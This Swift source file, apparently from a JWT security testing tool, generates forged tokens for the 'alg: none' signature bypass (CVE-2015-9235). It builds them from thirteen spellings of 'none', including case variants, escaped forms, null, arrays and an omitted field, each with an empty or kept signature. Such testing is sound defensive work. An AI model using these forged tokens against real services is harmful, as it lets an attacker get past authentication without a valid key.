/// J01: the header says that there is no signature.
enum NoneAttacks {
    static let all: [Attack] = spellings.flatMap { spelling in
        [attack(spelling, keepsSignature: false), attack(spelling, keepsSignature: true)]
    }

    /// The spellings of `none` and their JSON; nil omits `alg`.
    private static let spellings: [(name: String, raw: String?)] = [
        ("lowercase", #""none""#), ("capitalised", #""None""#), ("uppercase", #""NONE""#), ("mixed", #""nOnE""#),
        ("trailing-space", #""none ""#), ("escaped", #""no\u006ee""#), ("empty", #""""#), ("null", "null"),
        ("zero", "0"), ("array", "[]"), ("array-none", #"["none"]"#), ("false", "false"), ("absent", nil),
    ]

    /// The valid token's payload under a header that names no signature.
    ///
    /// - Parameter keepsSignature: whether the valid token's signature stays; if not, the third segment is empty, as
    ///   RFC 7518 section 3.6 has it.
    private static func attack(_ spelling: (name: String, raw: String?), keepsSignature: Bool) -> Attack {
        let (name, raw) = spelling
        return Attack(
            id: "J01-none-\(name)" + (keepsSignature ? "-signed" : ""),
            title: "alg \(raw ?? "left out") with \(keepsSignature ? "the old" : "an empty") signature",
            reference: "RFC 8725 §3.2, CVE-2015-9235", category: .none
        ) { material in
            let header = Bytes.base64URL(material.headerText([("alg", raw)]))
            let signature = keepsSignature ? material.segments.signature : []
            return .token(AttackMaterial.joined(header, material.segments.payload, signature))
        }
    }
}
